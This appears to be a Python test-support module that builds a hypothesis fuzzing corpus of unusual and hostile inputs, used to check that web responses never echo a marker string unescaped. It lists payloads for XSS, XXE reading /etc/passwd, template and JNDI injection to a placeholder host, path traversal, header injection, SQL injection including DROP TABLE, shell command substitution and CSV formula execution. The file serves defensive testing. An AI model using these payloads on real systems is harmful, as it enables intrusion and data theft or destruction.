"""Unusual strings of every kind, as bytes, by name. MARK is what a response must not contain unescaped."""

from __future__ import annotations

from hypothesis import strategies as st

MARK = "zqx7"
PRODUCT = 1777 * 1777  # what a template that is evaluated would write
_FORMULA = "1777*1777"


def _utf8(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


MARKUP = {
    "element": f"<{MARK} on{MARK}=1>",
    "script": f"<script>{MARK}()</script>",
    "out of an attribute": f"\"><{MARK}><i a='",
    "out of a quoted attribute": f"'><{MARK}><i a=\"",
    "attribute": f'" on{MARK}="1" a="',
    "attribute in quotes": f"' on{MARK}='1' a='",
    "attribute without quotes": f" on{MARK}=1 ",
    "out of a script": f"</script><{MARK}>",
    "out of a comment": f"--><{MARK}><!--",
    "out of a title": f"</title><{MARK}>",
    "out of a text area": f"</textarea><{MARK}>",
    "out of a style": f"</style><{MARK}>",
    "character reference": f"&lt;{MARK}&gt;&#60;{MARK}&#62;&amp;",
    "declaration": f'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><{MARK}>&b;',
    "cdata": f"]]><{MARK}><![CDATA[",
    "svg": f"<svg><a xlink:href=javascript:{MARK}()>",
    "wide quotes": f"＂＞＜{MARK}＞",
    "seven bits": f"+ADw-{MARK}+AD4-",
    "selector": f"}}*{{background:url(//{MARK}.example)}}",
}
TEMPLATES = {
    "jinja": f"{{{{{_FORMULA}}}}}",
    "jinja statement": "{% if 1 %}{{config}}{% endif %}",
    "dollar": f"${{{_FORMULA}}}",
    "hash": f"#{{{_FORMULA}}}",
    "erb": f"<%= {_FORMULA} %>",
    "format": "{0.__class__.__mro__}%s%n%(number)s{number}",
    "jndi": f"${{jndi:ldap://{MARK}.example/a}}",
}
PLACES = {
    "two slashes": f"//{MARK}.example",
    "three slashes": f"///{MARK}.example",
    "slash and backslash": f"/\\{MARK}.example",
    "backslashes": f"\\\\{MARK}.example",
    "slash tab slash": f"/\t/{MARK}.example",
    "slash line slash": f"/\r\n/{MARK}.example",
    "slash space slash": f"/ /{MARK}.example",
    "encoded slashes": f"/%2f%2f{MARK}.example/%5c%5c",
    "dots and slashes": f"/.//{MARK}.example",
    "wide slashes": f"／／{MARK}.example",
    "fraction slashes": f"⁄⁄{MARK}.example",
    "division slashes": f"∕∕{MARK}.example",
    "wide backslash": f"/＼{MARK}.example",
    "scheme": f"https://{MARK}.example/",
    "scheme without slashes": f"https:{MARK}.example",
    "user": f"//localhost@{MARK}.example/",
    "javascript": f"javascript:{MARK}()",
    "javascript in pieces": f"java\nscript\t:{MARK}()",
    "data": f"data:text/html,<{MARK}>",
    "vbscript": f"vbscript:{MARK}",
    "climbing": "../../../../../../etc/passwd",
    "climbing encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "climbing overlong": "..%c0%af..%c0%afetc/passwd",
    "climbing in windows": "..\\..\\windows\\win.ini",
    "file": "file:///etc/passwd",
    "device": "/dev/zero",
}
LINES = {
    "header": f"a\r\nX-{MARK}: 1\r\nSet-Cookie: {MARK}=1",
    "header by line feed": f"a\nX-{MARK}: 1",
    "header by return": f"a\rX-{MARK}: 1",
    "header encoded": f"a%0d%0aX-{MARK}:%201",
    "header in wide letters": f"a嘍嘊X-{MARK}: 1",
    "body": f"a\r\n\r\n<{MARK}>",
    "line separators": f"a\u2028b\u2029c\x85{MARK}",
    "cookie": f"a; Domain={MARK}.example; Path=/; a=b, c",
}
QUERIES = {
    "sql": "' OR '1'='1' --",
    "sql statement": "'; DROP TABLE articles; --",
    "sql union": '" UNION SELECT sql FROM sqlite_master --',
    "like": "%_%",
    "nosql": '{"$gt":""}',
    "shell": "$(id)`id`;id|id&&id",
    "regular expression": "(a+)+$" + "a" * 40 + "!",
    "prototype": "__proto__[a]=constructor.prototype",
    "csv": "=cmd|' /C calc'!A0",
    "pairs": "a=b&text=125;theme=dark&&==&",
}
WRITING = {
    "empty": "",
    "space": " ",
    "spaces": " \t\u00a0\u3000\u200b ",
    "nul": "a\x00b",
    "control characters": "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))),
    "surrogate": "\ud800",
    "surrogates turned round": "\udc00\ud800",
    "noncharacters": "\ufffe\uffff\U0001fffe\U0010ffff",
    "byte order mark": "\ufeffa",
    "bidi": f"\u202e{MARK}\u202d\u2066\u2067\u2069\u200f",
    "zalgo": "e" + "\u0301\u0323\u0489" * 40,
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇻🇳",
    "vietnamese decomposed": "Nguyê\u0303n Thi\u0323",
    "turkish": "İıŞ",
    "german": "ß",
    "digits of others": "١٢٣²①",
    "number": "9" * 5000,
    "number below zero": "-1",
    "fraction": "1e309",
    "not a number": "NaN",
    "true": "true",
    "null": "null",
}
TEXTS = MARKUP | TEMPLATES | PLACES | LINES | QUERIES | WRITING
BYTES = {
    "overlong slash": b"\xc0\xaf\xe0\x80\xaf",
    "overlong nul": b"\xc0\x80",
    "cut off": b"\xe2\x82",
    "too high": b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80",
    "surrogate in utf-8": b"\xed\xa0\x80",
    "vietnamese of windows": "Nguyễn".encode("cp1258", "replace"),
    "utf-16": f"<{MARK}>".encode("utf-16"),
    "gzip": b"\x1f\x8b\x08\x00\x00",
    "every byte": bytes(range(256)),
    "percent signs": b"%%%1%zz%u0041%",
}
LONG = {
    "5,000 characters": b"a" * 5000,
    "5,000 slashes": b"/" * 5000,
    "5,000 elements": f"<{MARK}>".encode() * 700,
    "5,000 marks": _utf8("a" + "\u0301" * 2500),
    "1,000,000 characters": b"a" * 1_000_000,
    "1,000,000 signs": b"&=;,%<" * 170_000,
}
CORPUS: dict[str, bytes] = {name: _utf8(text) for name, text in TEXTS.items()} | BYTES | LONG
SHORT = [value for name, value in CORPUS.items() if len(value) < 1000]

# Anything: a string of the corpus, pieces of several, text of any plane with surrogates, or plain bytes.
any_bytes = st.one_of(
    st.sampled_from(SHORT),
    st.lists(st.sampled_from(SHORT), max_size=4).map(b"".join),
    st.text(st.characters(), max_size=40).map(_utf8),
    st.binary(max_size=60),
)
